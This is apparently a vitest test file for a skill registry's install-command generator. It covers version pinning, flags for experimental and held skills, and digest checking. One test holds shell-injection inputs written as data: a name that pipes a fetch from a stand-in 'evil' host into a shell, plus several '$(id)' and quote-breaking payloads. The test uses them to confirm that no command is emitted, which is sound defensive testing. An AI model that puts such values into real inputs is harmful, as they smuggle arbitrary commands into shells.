import { describe, expect, it } from "vitest";
import { fakeSkill } from "../test/fake-api.ts";
import { installCommands } from "./install.ts";

const HERE = "http://127.0.0.1:8080";
const texts = (fields: Parameters<typeof fakeSkill>[0], publicUrl = HERE) =>
  installCommands(fakeSkill(fields), publicUrl).map(({ text }) => text);

describe("installCommands", () => {
  it("pins the version, and names the flag that experimental needs", () => {
    expect(texts({ security_tier: "verified" })[0]).toBe(`npx -y ${HERE}/cli/gaia-skill.tgz install web-search@1.3.0`);
    expect(texts({ security_tier: "experimental" })[0]).toBe(
      `npx -y ${HERE}/cli/gaia-skill.tgz install web-search@1.3.0 --allow-experimental`,
    );
    expect(texts({}, "https://skills.example")[0]).toContain("--registry https://skills.example");
  });

  it("names the flag that what is held for review needs, and shows no other way to it", () => {
    for (const security_tier of ["experimental", "community"] as const)
      expect(texts({ security_tier, held: true })).toEqual([
        `npx -y ${HERE}/cli/gaia-skill.tgz install web-search@1.3.0 --allow-held`,
      ]);
  });

  it("checks the download by hand against the digest of the very archive", () => {
    const [, byHand] = texts({});
    expect(byHand).toContain(`${HERE}/api/v1/skills/web-search/1.3.0/download`);
    expect(byHand).toContain(`echo "${"0123456789abcdef".repeat(4)}  web-search-1.3.0.zip" | sha256sum -c`);
  });

  it("is silent for what is not to be installed, and for names that a shell would act on", () => {
    for (const fields of [
      { status: "quarantined" },
      { status: "inspecting" },
      { name: "a;curl evil|sh" },
      { version: "1.0.0$(id)" },
    ] as const)
      expect(texts(fields)).toEqual([]);
    expect(texts({}, "https://x.example/$(id)")).toEqual([]);
    expect(texts({ artifacts: [{ archive: "zip", integrity: 'sha256-"; id; "', size_bytes: 1 }] })).toHaveLength(1);
  });
});
